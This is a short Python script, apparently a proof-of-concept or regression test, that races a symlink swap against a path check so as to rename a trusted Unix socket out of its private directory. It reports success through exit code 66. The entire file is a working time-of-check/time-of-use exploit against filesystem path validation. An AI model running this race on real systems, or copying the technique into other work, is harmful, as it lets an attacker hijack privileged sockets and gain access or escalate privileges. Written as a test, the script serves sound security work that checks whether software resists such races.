"""steal SOCKET SECONDS: move a trusted socket out of its private directory by a race.

A thread flips ``d`` (in the cwd) between a real directory holding a dummy file
named like the socket and a symlink to the socket's directory, while the main
thread renames ``d/NAME`` to ``stolen``. A check of the path while ``d`` is the
real directory, followed by a kernel walk of the same text while ``d`` is the
symlink, moves the trusted socket. Exit 66 when ``stolen`` is a socket; prints
the counts (dummies moved, errors by name).
"""

from __future__ import annotations

import errno
import os
import stat
import sys
import threading
import time

sock, seconds = sys.argv[1], float(sys.argv[2])
work, name = os.path.split(sock)
os.mkdir("d.real")
open(f"d.real/{name}", "w").close()
stop = False


def flip() -> None:
    while not stop:
        try:
            os.rename("d.real", "d")  # d is a real directory
            os.rename("d", "d.real")
            os.symlink(work, "d")  # d leads to the trusted directory
            os.unlink("d")
        except OSError:
            pass


thread = threading.Thread(target=flip, daemon=True)
thread.start()
counts: dict[str, int] = {"dummy": 0}
stolen = False
end = time.monotonic() + seconds
while time.monotonic() < end and not stolen:
    try:
        os.rename(f"d/{name}", "stolen")
    except OSError as exc:
        key = errno.errorcode.get(exc.errno or 0, "?")
        counts[key] = counts.get(key, 0) + 1
        continue
    if stat.S_ISSOCK(os.lstat("stolen").st_mode):
        stolen = True
        break
    counts["dummy"] += 1
    os.unlink("stolen")
    for where in ("d.real", "d"):  # a new dummy in the real directory, wherever it is now
        try:
            if not os.path.islink(where):
                open(f"{where}/{name}", "w").close()
                break
        except OSError:
            pass
stop = True
thread.join()
print(counts, "stolen" if stolen else "held")
sys.exit(66 if stolen else 0)
